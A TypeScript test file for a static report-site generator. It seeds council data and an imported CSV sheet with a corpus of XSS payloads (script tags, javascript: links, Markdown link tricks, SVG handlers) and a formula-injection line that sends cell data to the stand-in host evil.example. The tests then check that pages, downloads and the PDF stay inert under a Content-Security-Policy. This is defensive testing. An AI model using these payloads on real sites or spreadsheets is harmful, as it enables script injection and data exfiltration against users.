// Commentary and every other text people write are inert: an XSS corpus in
// commentary, indicator titles, definitions, chart titles, the authority's
// name and report details, and in an imported sheet (through `npm run
// import`), produces no executable markup in any page, SVG, PDF or download.
// Every page carries the Content-Security-Policy; in Chromium no payload runs
// even with the policy switched off, and with it on nothing is even refused
// (the site asks for nothing it does not ship), over http and from file://.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import { parse, type HTMLElement } from "node-html-parser";
import { PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, PDFStream, PDFString } from "pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runBuild } from "../../scripts/build/pipeline.ts";
import { startStaticServer, type StaticServer } from "../../scripts/serve/staticServer.ts";
import { closeBrowser, getBrowser } from "../helpers/browser.ts";
import { copyFixture, editFile } from "../helpers/fixture.ts";
import { runCommand } from "../helpers/run.ts";
import { allFiles } from "../helpers/site.ts";

/** Markup that would run script, load something, or restyle the page if it got through. Each carries a marker. */
const HTML_PAYLOADS = [
  `<script>alert("XSS1")</script>`,
  `<img src=x onerror=alert("XSS2")>`,
  `<svg onload=alert("XSS3")><script>alert("XSS3")</script></svg>`,
  `<iframe src="javascript:alert('XSS4')"></iframe>`,
  `<a href="javascript:alert('XSS5')">XSS5</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTNicpPC9zY3JpcHQ+">XSS6</a>`,
  `<div style="background:url(javascript:alert('XSS7'));width:expression(alert('XSS7'))">XSS7</div>`,
  `&lt;script&gt;alert("XSS8")&lt;/script&gt;`,
  `&#60;img src=x onerror=alert("XSS9")&#62;`,
  `"><script>alert("XSS10")</script>`,
  `'><img src=x onerror=alert('XSS11')>`,
  `</style><script>alert("XSS12")</script>`,
  `</title><script>alert("XSS13")</script>`,
  `{{ "XSS14" | safe }}{% raw %}{{ 7 * 7 }}`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert("XSS15")>`,
  `javascript:alert("XSS16")`,
  `<object data="javascript:alert('XSS17')"></object><embed src="javascript:alert('XSS17')">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert('XSS18')">`,
  `<base href="javascript:alert('XSS19')//">`,
  `<form action="javascript:alert('XSS20')"><button>XSS20</button></form>`,
  `<!--<img src="--><img src=x onerror=alert("XSS21")//">`,
  `]]><script>alert("XSS22")</script><![CDATA[`,
  `<style>@import "//evil.example/XSS23.css"; body { background: url("javascript:alert('XSS23')") }</style>`,
  `<link rel="stylesheet" href="//evil.example/XSS24.css"><link rel="import" href="//evil.example/XSS24.html">`,
  `<svg><a xlink:href="javascript:alert('XSS25')"><text>XSS25</text></a><animate attributeName="href" to="javascript:alert('XSS25')"/></svg>`,
  `\u003cscript\u003ealert("XSS26")\u003c/script\u003e`,
];

/** Markdown's own ways to make links and images (commentary and definitions are Markdown). */
const MARKDOWN_PAYLOADS = [
  `[XSS-M1](javascript:alert('M1'))`,
  `[XSS-M2](JaVaScRiPt:alert('M2'))`,
  `[XSS-M3](data:text/html;base64,PHNjcmlwdD5hbGVydCgnTTMnKTwvc2NyaXB0Pg==)`,
  `![XSS-M4](x" onerror="alert('M4'))`,
  `[XSS-M5](https://example.org "title\\" onmouseover=\\"alert('M5')")`,
  `[XSS-M6](https://example.org 'x" onclick="alert(6)')`,
  `<javascript:alert('M7')>`,
  `[XSS-M8](vbscript:msgbox("M8"))`,
  `[XSS-M9](&#106;avascript:alert('M9'))`,
  `[XSS-M10][r10]\n\n[r10]: javascript:alert('M10')`,
  `![XSS-M11](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ00xMScpPjwvc3ZnPg==)`,
  `[XSS-M12](java\tscript:alert('M12'))`,
  `[XSS-M13](  javascript:alert('M13'))`,
];

/** A spreadsheet formula: in a CSV download it would run when opened in Excel. */
const FORMULA = `=HYPERLINK("https://evil.example/?leak="&A1,"XSS-CSV")`;

const ALL = [...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS];
const oneLine = (s: string) => s.replace(/\n+/g, " ");
const yamlString = (s: string) => JSON.stringify(oneLine(s));

/** The minimal fixture with the corpus in every text people write. */
function poisonedData(): string {
  const dir = copyFixture();
  const n = HTML_PAYLOADS.length;
  editFile(dir, "authority.yaml", (t) =>
    t
      .replace("name: Testshire County Council", `name: ${yamlString(`Testshire ${HTML_PAYLOADS[0]} ${HTML_PAYLOADS[11]}`)}`)
      .replace("shortName: Testshire", `shortName: ${yamlString(`Test ${HTML_PAYLOADS[12]}`)}`)
      .replace("  title: Test Performance Report", `  title: ${yamlString(`Report ${HTML_PAYLOADS[9]}`)}\n  caveat: ${yamlString(HTML_PAYLOADS[1]!)}\n  createdBy: ${yamlString(HTML_PAYLOADS[13]!)}\n  status: ${yamlString(HTML_PAYLOADS[10]!)}`),
  );
  editFile(dir, "indicators/front-door.yaml", (t) =>
    t
      .replace("title: Front door", `title: ${yamlString(`Front door ${HTML_PAYLOADS[2]}`)}`)
      .replace("definition: Contacts and referrals.", `definition: ${yamlString(`Contacts ${HTML_PAYLOADS[3]} ${MARKDOWN_PAYLOADS[0]} ${MARKDOWN_PAYLOADS[4]}`)}`)
      .replace("    title: Contacts\n", `    title: ${yamlString(`Contacts ${HTML_PAYLOADS[21]} ${HTML_PAYLOADS[24]}`)}\n`)
      .replace("    title: Number of contacts\n", `    title: ${yamlString(`Contacts ${HTML_PAYLOADS[4]} ${HTML_PAYLOADS[5]}`)}\n    shortTitle: ${yamlString(HTML_PAYLOADS[6]!)}\n    definition: ${yamlString(`${HTML_PAYLOADS[7]} ${MARKDOWN_PAYLOADS[1]}`)}\n    dataNote: ${yamlString(HTML_PAYLOADS[8]!)}\n    owner: ${yamlString(HTML_PAYLOADS[14]!)}\n    reporter: ${yamlString(HTML_PAYLOADS[15]!)}\n    outcome: ${yamlString(HTML_PAYLOADS[16]!)}\n`)
      .replace("    title: Number of referrals\n", `    title: ${yamlString(FORMULA)}\n`)
      .replace('    title: "% of plans up to date"\n', `    title: ${yamlString(`% ${HTML_PAYLOADS[17]} ${HTML_PAYLOADS[18]} ${HTML_PAYLOADS[19]} ${HTML_PAYLOADS[20]}`)}\n`)
      .replace("    title: Rate of referrals per 10,000 - rolling 12 months\n", `    title: ${yamlString(`Rate ${HTML_PAYLOADS[22]} ${HTML_PAYLOADS[23]} ${HTML_PAYLOADS[25]}`)}\n`),
  );
  editFile(dir, "indicators/caseloads.yaml", (t) => t.replace("title: Caseloads", `title: ${yamlString(`Caseloads ${HTML_PAYLOADS.slice(0, n).join(" ")}`)}`));
  fs.writeFileSync(path.join(dir, "commentary", "2020-12", "front-door.md"), ALL.join("\n\n") + "\n");
  fs.writeFileSync(path.join(dir, "commentary", "2020-12", "caseloads.md"), `# ${HTML_PAYLOADS[0]}\n\n- ${HTML_PAYLOADS[1]}\n- ${MARKDOWN_PAYLOADS[0]}\n\n| a | ${HTML_PAYLOADS[2]} |\n|---|---|\n| ${MARKDOWN_PAYLOADS[2]} | x |\n\n> ${HTML_PAYLOADS[4]}\n\n    ${HTML_PAYLOADS[0]}\n\n\`${HTML_PAYLOADS[1]}\`\n`);
  return dir;
}

/** A council's sheet with the corpus in its titles, section names and comments. */
function poisonedSheet(dir: string): string {
  const esc = (s: string) => `"${oneLine(s).replace(/"/g, '""')}"`;
  const months = ["Jan 20", "Feb 20", "Mar 20", "Apr 20", "May 20", "Jun 20"];
  const rows = [
    `Ref,Service area,Description,Lead officer,${months.join(",")},Comments`,
    `A1,${esc(`Front door ${HTML_PAYLOADS[0]}`)},${esc(`Contacts ${HTML_PAYLOADS[1]} ${HTML_PAYLOADS[2]}`)},${esc(HTML_PAYLOADS[3]!)},120,130,125,140,150,145,${esc(`${HTML_PAYLOADS[4]} ${MARKDOWN_PAYLOADS[0]}`)}`,
    `A2,${esc(`Front door ${HTML_PAYLOADS[0]}`)},${esc(`% of contacts ${HTML_PAYLOADS[9]}`)},x,50%,52%,51%,49%,53%,55%,${esc(HTML_PAYLOADS[11]!)}`,
    `B1,${esc(`Care ${HTML_PAYLOADS[12]}`)},${esc(FORMULA)},y,10,11,12,13,14,15,${esc(MARKDOWN_PAYLOADS[3]!)}`,
  ];
  const file = path.join(dir, "sheet.csv");
  fs.writeFileSync(file, rows.join("\n") + "\n");
  return file;
}

const SAFE_SCHEMES = /^(https?:|mailto:|#|\.{0,2}\/|[^:]*$)/i;
const URL_ATTRIBUTES = ["href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "ping"];
const FORBIDDEN_ELEMENTS = ["script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "button", "input", "textarea", "select", "noscript", "template", "animate", "set", "foreignobject", "math", "mglyph"];

/** Executable or loading markup in one HTML (or SVG) document: a list of findings, empty when inert. */
function executableMarkup(html: string, allowedStyles: Set<string>): string[] {
  const found: string[] = [];
  const root = parse(html, { comment: false, blockTextElements: { script: true, style: true, noscript: true, pre: true } });
  const walk = (el: HTMLElement) => {
    const tag = el.rawTagName?.toLowerCase();
    if (tag) {
      if (FORBIDDEN_ELEMENTS.includes(tag)) found.push(`<${tag}>`);
      if (tag === "meta" && (el.getAttribute("http-equiv") ?? "").toLowerCase() === "refresh") found.push("<meta refresh>");
      if (tag === "link" && !(el.getAttribute("rel") === "stylesheet" && /^(\.{0,2}\/)?[^:]*\.css$/.test(el.getAttribute("href") ?? ""))) found.push(`<link ${el.getAttribute("rel")} ${el.getAttribute("href")}>`);
      if (tag === "style" && !allowedStyles.has(el.rawText)) found.push(`<style>${el.rawText.slice(0, 80)}`);
      for (const [name, value] of Object.entries(el.attributes)) {
        const n = name.toLowerCase();
        if (n.startsWith("on")) found.push(`${tag} ${n}=`);
        if (n === "style") found.push(`${tag} style="${value}"`);
        if (URL_ATTRIBUTES.includes(n) && !SAFE_SCHEMES.test(value.replace(/[\s\u0000-\u001f]/g, ""))) found.push(`${tag} ${n}="${value}"`);
      }
    }
    for (const child of el.childNodes) if ((child as HTMLElement).childNodes) walk(child as HTMLElement);
  };
  walk(root);
  return found;
}

/** The layouts' own <style> blocks, as written for this data (the authority's colour; the print page's running heads). */
function layoutStyles(site: string): Set<string> {
  const styles = new Set<string>();
  for (const f of allFiles(site).filter((f) => f.endsWith(".html"))) {
    const root = parse(fs.readFileSync(path.join(site, f), "utf8"), { blockTextElements: { style: true } });
    const head = root.querySelector("head");
    for (const s of head?.querySelectorAll("style") ?? []) {
      if (!/^\s*:root \{ --bp-brand: #[0-9a-f]{6}; \}\s*$|^\s*:root \{ --bp-brand: #[0-9a-f]{6}; \}\s*@page/i.test(s.rawText)) continue;
      styles.add(s.rawText);
    }
  }
  return styles;
}

/** Actions a PDF reader would run: JavaScript, launching programs, forms, and links other than http(s) and mailto. */
async function pdfActions(file: string): Promise<string[]> {
  const doc = await PDFDocument.load(fs.readFileSync(file));
  const found: string[] = [];
  const text = (v: unknown) => (v instanceof PDFString || v instanceof PDFHexString ? v.decodeText() : String(v));
  const seen = new Set<unknown>();
  // Actions sit in dictionaries nested in annotations and the catalogue, not only in objects of their own.
  const visit = (obj: unknown) => {
    if (!obj || seen.has(obj)) return;
    seen.add(obj);
    if (obj instanceof PDFArray) return obj.asArray().forEach(visit);
    const dict = obj instanceof PDFDict ? obj : obj instanceof PDFStream ? obj.dict : null;
    if (!dict) return;
    for (const key of ["JavaScript", "JS", "Launch", "SubmitForm", "ImportData", "RichMedia", "AA", "OpenAction", "EmbeddedFile"]) {
      if (dict.has(PDFName.of(key))) found.push(`/${key}`);
    }
    const s = dict.get(PDFName.of("S"));
    if (s instanceof PDFName && !["/URI", "/GoTo", "/Named"].includes(s.toString()) && dict.get(PDFName.of("Type"))?.toString() === "/Action") found.push(`action ${s.toString()}`);
    const uri = dict.get(PDFName.of("URI"));
    if (uri && !/^(https?:|mailto:)/i.test(text(uri))) found.push(`/URI ${text(uri)}`);
    for (const [, value] of dict.entries()) visit(value);
  };
  for (const [, obj] of doc.context.enumerateIndirectObjects()) visit(obj);
  return found;
}

interface Built {
  name: string;
  out: string;
  site: string;
}

const built: Built[] = [];
let server: StaticServer | null = null;

beforeAll(async () => {
  const data = poisonedData();
  const out = fs.mkdtempSync(path.join(os.tmpdir(), "boardpack-xss-"));
  await runBuild({ data, out });
  built.push({ name: "catalogue, settings and commentary", out, site: path.join(out, "site") });

  // The import, as a user runs it; its output built as the README says.
  const work = fs.mkdtempSync(path.join(os.tmpdir(), "boardpack-xss-import-"));
  const sheet = poisonedSheet(work);
  const imported = path.join(work, "imported");
  const r = runCommand("import.ts", [sheet, "--out", imported, "--name", `Anytown ${HTML_PAYLOADS[0]} ${HTML_PAYLOADS[11]}`, "--title", `Scorecard ${HTML_PAYLOADS[12]}`]);
  expect(r.status, r.stderr).toBe(0);
  const out2 = path.join(work, "dist");
  const b = runCommand("build.ts", ["--data", imported, "--out", out2]);
  expect(b.status, b.stderr).toBe(0);
  built.push({ name: "an imported sheet", out: out2, site: path.join(out2, "site") });
}, 300_000);

afterAll(async () => {
  await closeBrowser();
  await server?.close();
});

describe("the XSS corpus", () => {
  it("reaches the pages as text (so the checks below look where it lands)", () => {
    const pages = allFiles(built[0]!.site)
      .filter((f) => f.endsWith(".html"))
      .map((f) => parse(fs.readFileSync(path.join(built[0]!.site, f), "utf8")).textContent)
      .join("\n");
    for (const marker of ["XSS1", "XSS2", "XSS5", "XSS7", "XSS10", "XSS13", "XSS14", "XSS16", "XSS22", "XSS25", "XSS-M1", "XSS-M5", "XSS-M10", "XSS-CSV"]) {
      expect(pages, marker).toContain(marker);
    }
    // Nunjucks never evaluates data as a template.
    expect(pages).toContain("{{ 7 * 7 }}");
    expect(pages).not.toMatch(/\b49\b.*XSS14|XSS14.*\b49\b/);
  });

  it("reaches the imported site too", () => {
    const pages = allFiles(built[1]!.site)
      .filter((f) => f.endsWith(".html"))
      .map((f) => parse(fs.readFileSync(path.join(built[1]!.site, f), "utf8")).textContent)
      .join("\n");
    // (The import drops tags from titles, so what reaches the pages is the text between them.)
    for (const marker of ["XSS1", "XSS3", "XSS10", "XSS13", "XSS-CSV"]) expect(pages, marker).toContain(marker);
  });

  it("finds executable markup where there is some (the page check can fail)", () => {
    const bad = `<p onclick="x()">a</p><a href=" java\tscript:alert(1)">b</a><script>1</script><svg><a xlink:href="javascript:1">c</a></svg><div style="x">d</div><style>p{}</style><iframe src="/x"></iframe>`;
    expect(executableMarkup(bad, new Set())).toEqual(["p onclick=", `a href=" java\tscript:alert(1)"`, "<script>", 'a xlink:href="javascript:1"', 'div style="x"', "<style>p{}", "<iframe>"]);
    expect(executableMarkup(`<a href="../x/">ok</a><a href="https://example.org">ok</a><img src="a.svg" alt="">`, new Set())).toEqual([]);
  });

  it("finds what a PDF reader would run (the PDF check can fail)", async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage();
    const action = doc.context.obj({ Type: "Action", S: "URI", URI: PDFString.of("javascript:app.alert(1)") });
    page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 10, 10], A: action })]));
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of("app.alert(1)") }));
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "boardpack-pdfjs-")), "bad.pdf");
    fs.writeFileSync(file, await doc.save());
    const found = await pdfActions(file);
    expect(found).toEqual(expect.arrayContaining(["/OpenAction", "/URI javascript:app.alert(1)"]));
  });

  for (const which of [0, 1]) {
    it(`leaves no executable markup in any page or SVG (${["catalogue, settings and commentary", "an imported sheet"][which]})`, () => {
      const { site } = built[which]!;
      const allowed = layoutStyles(site);
      const files = allFiles(site).filter((f) => /\.(html|svg)$/.test(f));
      expect(files.length).toBeGreaterThan(5);
      const findings = files.flatMap((f) => executableMarkup(fs.readFileSync(path.join(site, f), "utf8"), allowed).map((x) => `${f}: ${x}`));
      expect(findings).toEqual([]);
    });

    it(`leaves no executable content in the downloads and the PDF (${["catalogue, settings and commentary", "an imported sheet"][which]})`, async () => {
      const { site, out } = built[which]!;
      for (const f of allFiles(site).filter((f) => f.endsWith(".csv"))) {
        const csv = fs.readFileSync(path.join(site, f), "utf8");
        // No cell a spreadsheet would run as a formula.
        for (const cell of (parseCsv(csv) as string[][]).flat()) {
          expect(cell, `${f}: ${cell}`).not.toMatch(/^[=@\t\r]|^[+-](?![\d.]+(e[+-]?\d+)?$)/i);
        }
        expect(csv, "the formula reached the download as text").toContain("'=HYPERLINK(");
      }
      for (const f of allFiles(site).filter((f) => f.endsWith(".json"))) {
        const json = fs.readFileSync(path.join(site, f), "utf8");
        expect(json, f).not.toMatch(/<\/?[a-z]/i);
        JSON.parse(json);
      }
      const pdfs = fs.readdirSync(out).filter((f) => f.endsWith(".pdf"));
      expect(pdfs.length).toBe(1);
      expect(await pdfActions(path.join(out, pdfs[0]!))).toEqual([]);
    });
  }

  it("puts the Content-Security-Policy on every page, before anything it governs", () => {
    for (const { site } of built) {
      for (const f of allFiles(site).filter((f) => f.endsWith(".html"))) {
        const html = fs.readFileSync(path.join(site, f), "utf8");
        const head = /<head>\s*<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html);
        expect(head, f).not.toBeNull();
        const policy = head![1]!;
        expect(policy).toMatch(/^default-src 'self'; script-src 'none'; /);
        expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes|\*|data:|https?:/);
      }
    }
  });
});

describe("in Chromium", () => {
  const PAGES = ["", "2020-12/", "2020-12/front-door/", "2020-12/caseloads/", "indicators/", "indicators/c1/", "archive/", "print/2020-12/"];

  async function visit(url: string, bypassCsp: boolean): Promise<{ dialogs: string[]; refused: string[]; status: number | undefined; styled: boolean }> {
    const browser = await getBrowser();
    const page = await browser.newPage();
    const dialogs: string[] = [];
    const refused: string[] = [];
    page.on("dialog", async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
    page.on("console", (m) => {
      if (/Content Security Policy/i.test(m.text())) refused.push(m.text());
    });
    await page.setBypassCSP(bypassCsp);
    try {
      const response = await page.goto(url, { waitUntil: "load" });
      await new Promise((r) => setTimeout(r, 100));
      // Hover and click whatever could carry a handler: no handler is there to run.
      await page.$$eval("a, img, svg, div", (els) => els.slice(0, 400).forEach((e) => e.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }))));
      const styled = await page.evaluate(() => getComputedStyle(document.body).margin === "0px" || getComputedStyle(document.body).fontFamily.includes("Liberation"));
      return { dialogs, refused, status: response?.status(), styled };
    } finally {
      await page.close();
    }
  }

  it("runs no payload on any kind of page, with or without the policy, and the policy refuses nothing the site uses (http)", async () => {
    const site = built[0]!.site;
    server = await startStaticServer(site);
    const pages = PAGES.filter((p) => p === "" || fs.existsSync(path.join(site, p)));
    expect(pages.length).toBeGreaterThanOrEqual(6);
    for (const p of pages) {
      const open = await visit(server.url + p, true);
      expect(open.status, p).toBe(200);
      expect(open.dialogs, p).toEqual([]);
      const locked = await visit(server.url + p, false);
      expect(locked.dialogs, p).toEqual([]);
      expect(locked.refused, p).toEqual([]);
      expect(locked.styled, `${p}: the stylesheet applies under the policy`).toBe(true);
    }
  });

  it("refuses nothing the site uses when opened from a folder (file://), the stylesheet included", async () => {
    const site = built[0]!.site;
    for (const p of ["2020-12/front-door/", "indicators/", ""]) {
      const r = await visit(`file://${path.join(site, p, "index.html")}`, false);
      expect(r.dialogs, p).toEqual([]);
      expect(r.refused, p).toEqual([]);
      expect(r.styled, `${p}: the stylesheet applies under the policy from file://`).toBe(true);
    }
  });

  it("reports a refusal when something the policy forbids is on a page (the check above can fail)", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "boardpack-csp-"));
    const page = fs.readFileSync(path.join(built[0]!.site, "index.html"), "utf8").replace("</body>", `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=""><span onclick="x()">x</span><script>alert("inline")</script></body>`);
    fs.writeFileSync(path.join(dir, "index.html"), page);
    const r = await visit(`file://${path.join(dir, "index.html")}`, false);
    expect(r.dialogs).toEqual([]);
    expect(r.refused.length).toBeGreaterThan(0);
    const open = await visit(`file://${path.join(dir, "index.html")}`, true);
    expect(open.dialogs).toEqual(["inline"]);
  });
});
